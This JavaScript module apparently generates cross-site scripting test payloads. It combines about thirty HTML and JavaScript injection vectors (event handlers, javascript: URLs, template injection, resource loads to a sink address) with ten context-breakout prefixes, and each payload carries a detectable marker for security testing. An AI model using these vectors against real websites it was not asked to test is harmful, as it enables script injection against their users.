// Texts that would do harm if any screen took them for more than text: every way out of a place times
// every way to run something. Each carries its number as "__xss=7;", by which it is found again.

const ways = [
  (x) => `<script>${x}</script>`,
  (x) => `<img src=x onerror="${x}">`,
  (x) => `<svg onload="${x}">`,
  (x) => `<svg><script>${x}</script></svg>`,
  (x) => `<svg><animate onbegin="${x}" attributeName=x dur=1s>`,
  (x) => `<iframe srcdoc="<script>parent.${x}</script>">`,
  (x) => `<iframe src="javascript:parent.${x}">`,
  (x) => `<a href="javascript:${x}" autofocus>go</a>`,
  (x) => `<details open ontoggle="${x}"><summary>s`,
  (x) => `<input autofocus onfocus="${x}">`,
  (x) => `<form action="javascript:${x}"><button>ok`,
  (x) => `<button formaction="javascript:${x}">ok`,
  (x) => `<object data="javascript:${x}">`,
  (x) => `<embed src="javascript:${x}">`,
  (x) => `<video><source onerror="${x}"></video>`,
  (x) => `<marquee onstart="${x}">m</marquee>`,
  (x) => `<div style="animation:spin 1s" onanimationstart="${x}">`,
  (x) => `<math><mtext><style><img src=x onerror="${x}">`,
  (x) => `<template><img src=x onerror="${x}"></template>`,
  (x) => `<style onload="${x}"></style>`,
  (x) => `<IMG SRC=x ONERROR=${x}>`,
  (x) => `<base href="javascript:${x}//">`,
  (x) => `javascript:${x}`,
  (x) => `\${${x}}`,
  (x) => `{{constructor.constructor('${x}')()}}`,
  (x) => `{@html '<img src=x onerror=${x}>'}`,
  (x, sink) => `<img src="${sink}/${x}">`,
  (x, sink) => `<link rel=stylesheet href="${sink}/${x}">`,
  (x, sink) => `<meta http-equiv=refresh content="0;url=${sink}/${x}">`,
  (x, sink) => `<style>@import url(${sink}/${x})</style>`,
]

const outs = ['', '">', "'>", '</script>', '</textarea></title>', '-->', ']]>', '`', '&quot;>', '%22%3E']

/** All of them; sink is an address that nobody may ask for. */
export const payloads = (sink) => outs.flatMap((out) => ways.map((way) => [out, way])).map(([out, way], i) => out + way(`__xss=${i};`, sink))

/** The numbers of the payloads that stand in a text. */
export const numbers = (text) => [...text.matchAll(/__xss=(\d+);/g)].map(([, number]) => Number(number))
